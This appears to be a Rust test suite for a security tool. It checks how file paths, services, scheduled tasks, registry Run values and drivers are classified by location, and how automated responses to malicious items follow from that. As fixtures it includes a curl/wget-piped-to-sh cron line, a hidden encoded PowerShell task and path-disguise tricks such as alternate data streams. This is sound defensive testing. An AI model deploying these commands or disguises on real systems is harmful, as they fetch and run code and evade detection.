//! Spec 2.4–2.6.
use crate::given;
use LocationClass::{Both, Core, None as Nowhere, Other, Temp};
use Outcome::{Act, Ask};
use assize_domain::{
    entity::{
        Driver, Entity, Registry, ScheduledTask, Service, ServiceScope, StartupItem, StartupKind, TaskKind, User,
    },
    folders::{FolderLists, Preset},
    group::{AutomationLevel, OsPlatform},
    location::{Location, LocationClass, classify, classify_both, locate},
    policy::{Case, Outcome, PathlessItems, evaluate, location_rails},
    verdict::Verdict,
};
use proptest::prelude::*;

const WIN: OsPlatform = OsPlatform::Windows;
const LINUX: OsPlatform = OsPlatform::Linux;
const MAC: OsPlatform = OsPlatform::Macos;

fn shipped() -> &'static FolderLists {
    FolderLists::shipped()
}

fn class(path: &str, os: OsPlatform) -> LocationClass {
    classify(path, os, shipped()).class
}

fn outcome(level: AutomationLevel, location: &Location) -> Outcome {
    let rails = location_rails(level, location, PathlessItems::Ask);
    let case = Case {
        level,
        verdict: Verdict::Malicious,
        class: location.class,
        pathless: PathlessItems::Ask,
        indicator: None,
        exclusion: None,
        alert: None,
        rails: &rails,
        executor: true,
        reachable: true,
    };
    evaluate(&case).outcome
}

fn registry(data: &str) -> Entity {
    Entity::Registry {
        registry: Registry { key: "HKCU\\…\\Run".into(), value: Some("v".into()), data: Some(data.into()) },
    }
}

fn service(exec: &str) -> Entity {
    Entity::Service {
        service: Service {
            name: "s".into(),
            path: "/etc/systemd/system/s.service".into(),
            scope: ServiceScope::System,
            exec: exec.into(),
            state: "unknown".into(),
            enabled: true,
            digest: String::new(),
        },
    }
}

fn task(kind: TaskKind, command: &str) -> Entity {
    Entity::ScheduledTask {
        scheduled_task: ScheduledTask {
            kind,
            name: "t".into(),
            path: "/etc/cron.d/t".into(),
            command: command.into(),
            schedule: "@daily".into(),
            user: "root".into(),
            line: None,
            occurrence: 0,
            digest: String::new(),
            enabled: true,
        },
    }
}

fn of(entity: &Entity, os: OsPlatform) -> (LocationClass, Option<String>) {
    let location = locate(entity, os, shipped());
    (location.class, location.classified_by)
}

/// M12, M14, M15: V1–V22 with the outcome of a malicious item at both levels that look at places.
#[test]
fn all_22_vectors_of_the_specification_hold() {
    let strict = shipped().with_preset(Preset::Strict);
    let at = |path: &str, os| classify(path, os, shipped());
    let app = r"C:\Program Files\App\a.exe";
    let vectors: Vec<(&str, Location, LocationClass, Outcome, Outcome)> = vec![
        ("V1", at(r"C:\Windows\System32\evil.dll", WIN), Core, Ask, Ask),
        ("V2", at(r"c:\WINDOWS\TEMP\a.exe", WIN), Both, Ask, Act),
        ("V3", at(r"C:\Users\ann\Downloads\inv.exe", WIN), Temp, Act, Act),
        ("V4", at(r"C:\Users\ann\AppData\Local\Temp\x\y.exe", WIN), Temp, Act, Act),
        ("V5", at(r"C:\Users\ann\AppData\Roaming\u.exe", WIN), Other, Act, Ask),
        ("V6", at(app, WIN), Both, Ask, Act),
        ("V7", classify(app, WIN, &strict), Core, Ask, Ask),
        ("V8", at(r"C:\Windows2\a.exe", WIN), Other, Act, Ask),
        ("V9", at(r"\\?\C:\PROGRA~1\App\a.exe", WIN), Both, Ask, Act),
        ("V10", at(r"C:\Users\ann\Downloads\..\Desktop\a.exe", WIN), Other, Act, Ask),
        ("V11", at(r"\\srv\share\a.exe", WIN), Other, Ask, Ask),
        (
            "V12",
            classify_both(r"C:\Windows\System32\a.dll", r"C:\Users\ann\Downloads\l\a.dll", WIN, shipped()),
            Core,
            Ask,
            Ask,
        ),
        ("V13", at(r"D:\Windows\a.exe", WIN), Core, Ask, Ask),
        ("V14", at("/usr/bin/ssh", LINUX), Core, Ask, Ask),
        ("V15", at("/usr/local/bin/m", LINUX), Other, Act, Ask),
        ("V16", at("/dev/shm/.x", LINUX), Temp, Act, Act),
        ("V17", at("/USR/bin/x", LINUX), Other, Act, Ask),
        ("V18", at("/tmp/a", MAC), Temp, Act, Act),
        ("V19", at("/Applications/A.app/Contents/MacOS/A", MAC), Core, Ask, Ask),
        ("V20", locate(&registry(r"rundll32 C:\Users\ann\Downloads\a.dll,X"), WIN, shipped()), Temp, Act, Act),
        ("V21", locate(&registry("1"), WIN, shipped()), Nowhere, Ask, Ask),
        ("V22", locate(&service(r"C:\ProgramData\net\svc.dll"), WIN, shipped()), Other, Act, Ask),
    ];
    assert_eq!(vectors.len(), 22);
    for (name, location, class, core, non_temp) in vectors {
        assert_eq!(location.class, class, "{name} {location:?}");
        assert_eq!(outcome(AutomationLevel::SemiCore, &location), core, "{name} at the core level");
        assert_eq!(outcome(AutomationLevel::SemiNonTemp, &location), non_temp, "{name} at the non-temp level");
    }
    assert!(at(r"\\srv\share\a.exe", WIN).remote, "V11 is remote");
}

/// M14: a disguise of a path gives the class of what it hides.
#[test]
fn no_disguise_of_a_windows_path_changes_its_class() {
    for disguise in [
        r"C:\Windows\System32\a.dll",
        r"c:/windows/system32/a.dll",
        r"\\?\C:\Windows\System32\a.dll",
        r"\\.\C:\Windows\System32\a.dll",
        r"\??\C:\Windows\System32\a.dll",
        r"\\?\GLOBALROOT\Device\HarddiskVolume3\Windows\System32\a.dll",
        r"\Device\HarddiskVolume3\Windows\System32\a.dll",
        r"\\?\Volume{b75e2c83-0000-0000-0000-602f00000000}\Windows\System32\a.dll",
        r"\SystemRoot\System32\a.dll",
        r"System32\drivers\a.sys",
        r"%SystemRoot%\System32\a.dll",
        r"%windir%\system32\a.dll",
        r"C:\Users\ann\..\..\Windows\System32\a.dll",
        r"C:\Windows\.\System32\\a.dll",
        r"C:\Windows.\System32\a.dll",
        r"C:\WINDOW~1\System32\a.dll",
        r"C:\Windows\System32\a.txt:evil.dll:$DATA",
        r"C:\Windows\SysWOW64\a.dll",
        r"C:\Windows\Sysnative\a.dll",
    ] {
        assert_eq!(class(disguise, WIN), Core, "{disguise}");
    }
    for disguise in [
        r"%TEMP%\a.exe",
        r"%USERPROFILE%\Downloads\a.exe",
        r"C:\DOCUME~1\ann\LOCALS~1\Temp\a.exe",
        r"\\?\c:\users\ANN\downloads\a.exe. ",
        r"C:\Users\ann\Downloads\a.txt:b.exe",
    ] {
        assert_eq!(class(disguise, WIN), Temp, "{disguise}");
    }
    // A short name that only the disk could resolve is read in the careful way: perhaps core, never temporary.
    assert_eq!(class(r"C:\PROGRA~3\x.exe", WIN), Core);
    assert_eq!(class(r"C:\Users\ann\DOWNLO~1\x.exe", WIN), Other);
    // A real folder of that name, which only a verbatim path reaches.
    assert_eq!(class("\\\\?\\C:\\Windows \\System32\\a.dll", WIN), Other);
    for unknown in ["a.exe", r"C:a.exe", r"\\.\PhysicalDrive0", "%UNHEARD%\\a.exe", "", "1"] {
        assert_eq!(class(unknown, WIN), Nowhere, "{unknown}");
    }
    for remote in [r"\\srv\share\Windows\a.exe", r"\\?\UNC\srv\c$\Windows\a.exe", r"\Device\Mup\srv\s\a.exe"] {
        let location = classify(remote, WIN, shipped());
        assert!(location.remote && location.class == Other, "{remote} {location:?}");
    }
}

/// M14: a folder of a list counts as core itself, never as temporary: what hides in its name or stream is not below it.
#[test]
fn a_folder_itself_is_read_in_the_careful_way() {
    assert_eq!(class(r"C:\Windows:evil.exe", WIN), Core, "a stream of the folder");
    assert_eq!(class(r"C:\Windows\Temp:evil.exe", WIN), Core);
    assert_eq!(class(r"C:\Users\ann\Downloads:evil.exe", WIN), Other);
    assert_eq!((class("/etc", LINUX), class("/tmp", LINUX), class("/usr/local", LINUX)), (Core, Other, Core));
}

/// M13, M14
#[test]
fn linux_folders_are_told_apart_by_whole_components_and_case() {
    let rows = [
        ("/lib/x86_64-linux-gnu/l.so", Core),
        ("/lib64/l.so", Core),
        ("/usr/../tmp/a", Temp),
        ("/tmp/../usr/bin/a", Core),
        ("//usr//./bin/a", Core),
        ("/opt/acme/bin/acmed", Core),
        ("/optional/a", Other),
        ("/tmpfiles/a", Other),
        ("/Tmp/a", Other),
        ("/etc/ld.so.preload", Core),
        ("/home/alice/Downloads/invoice 2026.com", Temp),
        ("/home/alice/Téléchargements/a", Temp),
        ("/home/alice/downloads/a", Other),
        ("/home/alice/x/Downloads/a", Other),
        ("/root/.cache/a", Temp),
        ("/home/bob/.cache/.gk/gkd", Temp),
        ("/home/bob/.config/autostart/x.desktop", Other),
        ("/var/www/html/a.php", Other),
        ("/srv/a", Other),
        ("/run/user/1000/a", Temp),
        ("/run/systemd/a", Other),
        ("/var/tmp/systemd-private-1-a.service-x/tmp/a", Temp),
        ("/var/lib/docker/overlay2/1/merged/usr/bin/a", Other),
        ("/nix/store/abc/bin/a", Core),
        ("~/Downloads/a", Temp),
        ("$HOME/.cache/a", Temp),
        ("~/../../usr/bin/a", Nowhere),
        ("/~/Downloads/a", Other),
        ("/proc/self/exe", Nowhere),
        ("/proc/12/root/tmp/a", Nowhere),
        ("/proc/sys/a", Other),
        ("./a", Nowhere),
        ("a", Nowhere),
        ("", Nowhere),
    ];
    for (path, expected) in rows {
        assert_eq!(class(path, LINUX), expected, "{path}");
    }
    let gvfs = classify("/run/user/1000/gvfs/smb-share:server=s/a", LINUX, shipped());
    assert!(gvfs.remote && gvfs.class == Other, "a network place inside a temporary folder: {gvfs:?}");
}

/// M13, M14
#[test]
fn macos_folds_its_double_names_and_its_cases() {
    let rows = [
        ("/private/tmp/a", Temp),
        ("/System/Volumes/Data/private/tmp/a", Temp),
        ("/System/Volumes/Data/Users/ann/Downloads/a", Temp),
        ("/var/folders/ab/cdef/T/a", Temp),
        ("/private/var/folders/ab/cdef/0/a", Other),
        ("/ETC/hosts", Core),
        ("/System/Library/a", Core),
        ("/Library/LaunchDaemons/a.plist", Core),
        ("/Library/Caches/a", Temp),
        ("/Users/ann/Library/Caches/a", Temp),
        ("/Users/ann/Applications/A.app/A", Other),
        ("/usr/local/bin/a", Other),
        ("/opt/homebrew/bin/a", Other),
        ("/Volumes/Disk/a", Other),
        ("/var/root/Downloads/a", Temp),
    ];
    for (path, expected) in rows {
        assert_eq!(class(path, MAC), expected, "{path}");
    }
}

/// M14: a link is judged with what it leads to.
#[test]
fn a_link_and_its_target_both_have_a_say() {
    let out = classify_both("/tmp/x", "/usr/lib/x", LINUX, shipped());
    assert_eq!((out.class, out.link_class), (Temp, Some(Core)));
    assert_eq!(outcome(AutomationLevel::SemiCore, &out), Ask);
    assert_eq!(outcome(AutomationLevel::SemiNonTemp, &out), Ask);
    assert_eq!(outcome(AutomationLevel::Full, &out), Act);
    let same = classify_both("/usr/lib/x.so", "/lib/x.so", LINUX, shipped());
    assert_eq!((same.class, same.link_class), (Core, None));
    assert_eq!(same.classified_by.as_deref(), Some("/lib/x.so"), "shown as it was named where that changes nothing");
    let mut linked = given::file("/home/ann/Downloads/l");
    let Entity::File { file } = &mut linked else { panic!("a file") };
    file.resolved = Some("/etc/passwd".into());
    let located = locate(&linked, LINUX, shipped());
    assert_eq!((located.class, located.link_class), (Core, Some(Temp)));
}

/// M15
#[test]
fn everything_is_classified_by_the_program_behind_it() {
    let process = |exe: Option<&str>, script: Option<&str>| Entity::Process { process: given::process(exe, script) };
    let temp = |path: &str| (Temp, Some(path.to_owned()));
    assert_eq!(of(&given::file("/tmp/a"), LINUX), temp("/tmp/a"));
    assert_eq!(of(&process(Some("/tmp/.x/kswapd0"), None), LINUX), temp("/tmp/.x/kswapd0"));
    assert_eq!(of(&process(Some("/bin/dash"), Some("/var/tmp/update.sh")), LINUX), temp("/var/tmp/update.sh"));
    assert_eq!(of(&process(Some("/memfd:x"), None), LINUX), (Nowhere, None), "it was never in a file");
    assert_eq!(of(&process(None, None), LINUX), (Nowhere, None));
    assert_eq!(of(&service("-/var/tmp/.cache/netd 900"), LINUX), temp("/var/tmp/.cache/netd"));
    assert_eq!(
        of(&service("/home/alice/.local/share/.dbus/dbusd 900"), LINUX),
        (Other, Some("/home/alice/.local/share/.dbus/dbusd".into()))
    );
    assert_eq!(of(&service(r"C:\ProgramData\wdu\wdu.exe -svc"), WIN).0, Other);
    let cron = |command| of(&task(TaskKind::Cron, command), LINUX);
    assert_eq!(cron("/tmp/.x/kswapd0 900 >/dev/null 2>&1"), temp("/tmp/.x/kswapd0"));
    let piped = "(curl -fsSL http://127.0.0.1:9/i.sh || wget -q -O- http://127.0.0.1:9/i.sh) | sh >/dev/null 2>&1";
    assert_eq!(cron(piped), (Nowhere, None));
    assert_eq!(cron("logrotate"), (Nowhere, None), "which file a bare name means is not told by the line");
    let encoded = task(TaskKind::WindowsTask, "powershell.exe -NoP -W Hidden -Enc UwB0AGEA");
    assert_eq!(of(&encoded, WIN), (Nowhere, None));
    let module = "/lib/modules/6.1.0/extra/m.ko";
    let driver = |path: Option<&str>| Entity::Driver {
        driver: Driver { name: "m".into(), path: path.map(Into::into), config_path: None, loaded: true },
    };
    assert_eq!(of(&driver(Some(module)), LINUX), (Core, Some(module.into())));
    assert_eq!(of(&driver(Some(r"\??\C:\Windows\Temp\gdrv.sys")), WIN).0, Both);
    assert_eq!(of(&driver(None), LINUX), (Nowhere, None));
    let ods = r"C:\Users\Public\Libraries\ods.exe";
    assert_eq!(of(&registry(&format!("\"{ods}\" /quiet")), WIN), (Other, Some(ods.into())));
    let profile = Entity::StartupItem {
        startup_item: StartupItem {
            kind: StartupKind::ShellProfile,
            path: "/etc/profile.d/zz.sh".into(),
            line: Some("/tmp/.f &".into()),
            occurrence: 0,
            command: "/tmp/.f".into(),
            user: "root".into(),
            digest: String::new(),
        },
    };
    assert_eq!(of(&profile, LINUX), (Core, Some("/etc/profile.d/zz.sh".into())), "the file that holds the line");
    assert_eq!(of(&Entity::User { user: User { name: "ann".into(), uid: None } }, LINUX), (Nowhere, None));
}

proptest! {
    /// M14: hostile text is classified without a fault, and always in the same way.
    #[test]
    fn every_text_has_one_class(path in "(?s).{0,60}", os in proptest::sample::select(OsPlatform::ALL.to_vec())) {
        let first = classify(&path, os, shipped());
        prop_assert_eq!(&first, &classify(&path, os, shipped()));
        prop_assert_eq!(first.class == Nowhere, first.classified_by.is_none());
    }

    /// M14: climbing in and out again, doubled separators and the other spelling change nothing.
    #[test]
    fn detours_do_not_change_the_class(
        folder in proptest::sample::select(vec!["usr/bin", "tmp", "home/a/Downloads", "srv", "etc", "usr/local/x"]),
        detour in "[a-z]{1,8}", name in "[a-z]{1,8}",
    ) {
        let plain = class(&format!("/{folder}/{name}"), LINUX);
        for way in [
            format!("/{detour}/../{folder}/{name}"),
            format!("//{folder}//{name}"),
            format!("/./{folder}/{detour}/../{name}"),
            format!("/../{folder}/{name}"),
        ] {
            prop_assert_eq!(class(&way, LINUX), plain, "{}", way);
        }
    }

    /// M14: on Windows no letter case and no prefix changes the class.
    #[test]
    fn case_and_prefix_do_not_change_a_windows_class(
        folder in proptest::sample::select(vec![r"Windows\System32", r"Users\ann\Downloads", "Work", r"Windows\Temp", "Program Files"]),
        name in "[a-z]{1,8}", drive in "[A-Za-z]", upper: bool,
    ) {
        let plain = class(&format!("C:\\{folder}\\{name}"), WIN);
        let folder = if upper { folder.to_uppercase() } else { folder.to_lowercase() };
        for prefix in ["", r"\\?\", r"\\.\", r"\??\"] {
            let path = format!("{prefix}{drive}:\\{folder}\\{name}");
            prop_assert_eq!(class(&path, WIN), plain, "{}", path);
        }
    }
}
